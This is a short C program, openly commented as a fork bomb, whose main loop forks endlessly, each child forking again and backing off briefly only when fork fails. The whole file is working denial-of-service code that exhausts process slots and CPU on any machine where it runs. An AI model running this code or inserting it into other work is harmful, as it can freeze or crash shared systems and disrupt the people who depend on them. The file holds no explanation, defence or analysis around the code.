/* A fork bomb: whoever is born makes others without end. */
#include <unistd.h>

int main(void)
{
    for (;;)
        if (fork() < 0)
            usleep(1000);
}
